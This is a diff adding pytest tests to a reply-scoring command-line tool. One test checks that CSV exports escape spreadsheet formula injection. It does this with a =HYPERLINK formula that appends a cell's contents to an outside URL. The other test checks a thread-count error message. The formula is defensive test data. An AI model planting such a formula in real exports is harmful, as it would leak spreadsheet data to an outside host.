@@ -2,7 +2,11 @@
 
 from __future__ import annotations
 
+import csv
 import json
+import os
+import subprocess
+import sys
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
@@ -225,3 +229,37 @@ def test_names_of_files_are_no_patterns(run: Run, replies: Path, tmp_path: Path)
         run("score", replies, "-m", "length", "-o", name)
         assert len(read_scores(tmp_path / name)) == 4, name
     assert (tmp_path / "sa.csv.part").read_text() == "not ours"
+
+
+LINK = '=HYPERLINK("http://example.org/?"&A1,"open")'
+
+
+def test_no_spreadsheet_runs_a_formula_of_a_score_file(run: Run, write_lines: WriteLines, tmp_path: Path) -> None:
+    path = write_lines([{"id": LINK, "system": "@a", "response": "hi"}, {"id": "-5", "system": "b", "response": "yo"}])
+    (tmp_path / "m.toml").write_text(f"[metrics.{json.dumps(LINK)}]\nmetric = 'length'\n")
+    ran = run("score", path, "--config", "m.toml", "-o", "scores.csv")
+    assert ran.code == 0, ran.err
+    with (tmp_path / "scores.csv").open(newline="") as file:
+        header, first, second = csv.reader(file)
+    assert header == ["id", "system", f"'{LINK}"]
+    assert first[:2] == [f"'{LINK}", "'@a"]
+    assert second[:2] == ["-5", "b"]
+    ran = run("score", path, "--config", "m.toml", "-o", "other.jsonl")
+    assert json.loads((tmp_path / "other.jsonl").read_text().splitlines()[0])["id"] == LINK
+
+
+@pytest.mark.parametrize("name", ["replies.jsonl", "replies.parquet"])
+def test_no_threads_are_one_line_on_the_command_line(name: str, tmp_path: Path) -> None:
+    frame = pl.DataFrame({"response": ["hi there"], "references": [["hi"]]})
+    frame.write_parquet(tmp_path / "replies.parquet")
+    frame.write_ndjson(tmp_path / "replies.jsonl")
+    ran = subprocess.run(
+        [sys.executable, "-m", "rejoinder", "score", name, "-m", "bleu"],
+        cwd=tmp_path,
+        env={**os.environ, "POLARS_MAX_THREADS": "0"},
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    expected = "rejoinder: POLARS_MAX_THREADS is '0': expected at least 1 thread, or no such variable\n"
+    assert (ran.returncode, ran.stdout, ran.stderr) == (2, "", expected)
